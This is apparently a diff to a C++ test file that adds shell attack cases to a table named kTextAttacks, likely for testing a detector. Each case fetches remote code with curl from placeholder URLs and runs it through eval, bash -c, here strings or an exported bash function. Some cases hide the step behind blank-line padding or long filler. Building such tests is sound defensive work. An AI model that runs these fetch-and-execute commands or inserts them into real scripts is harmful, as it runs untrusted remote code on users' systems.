@@ -7,6 +7,9 @@
 namespace davylamp::test {
 namespace {
 
+// Text whose first page is blank.
+#define BLANK "{ head -c 70000 /dev/zero | tr '\\0' '\\n'; cat @D/local.sh; } > @D/blank; "
+#define BLANK_FETCHED "curl -s -o /dev/null @DATA_URL --next -s file://@D/blank"
 #define TEXT_CASE(name, command)                                                                   \
     {                                                                                              \
         name, command, Order::reader_late, "CHAIN-004"                                             \
@@ -32,6 +35,14 @@ const Attack kTextAttacks[] = {
               "for i in $(seq 40); do x=$(seq -f 'line %g of another' 200);"
               " done; bash -c \"cd /; $(echo; curl -s @LONG_URL)\""),
     TEXT_CASE("a here string", "bash <<< \"$(curl -s @URL)\""),
+    TEXT_CASE("a blank page before it", BLANK "eval \"$(" BLANK_FETCHED ")\""),
+    TEXT_CASE("a blank page before it, for bash -c", BLANK "bash -c \"$(" BLANK_FETCHED ")\""),
+    TEXT_CASE("a here string of a blank page", BLANK "bash <<< \"$(" BLANK_FETCHED ")\""),
+    TEXT_CASE("a long here string",
+              "bash <<< \"$(curl -s @LONG_URL)\n$(seq -f '# %g of many' 9999)\""),
+    TEXT_CASE("an exported function",
+              "x=$(curl -s @URL); env \"BASH_FUNC_go%%=() { $x\n}\" bash -c go"),
+    TEXT_CASE("a function's body", "x=$(curl -s @URL); eval \"go() { $x\n}\"; go"),
     TEXT_CASE("decoded on the way", "bash -c \"$(curl -s @B64_URL | base64 -d | gunzip)\""),
     TEXT_CASE("decoded by coreutils", "eval \"$(curl -s @PLAIN_B64_URL | base64 -d)\""),
     TEXT_CASE("python -c", "/usr/bin/python3 -c \"$(curl -s @PYTHON_URL)\""),
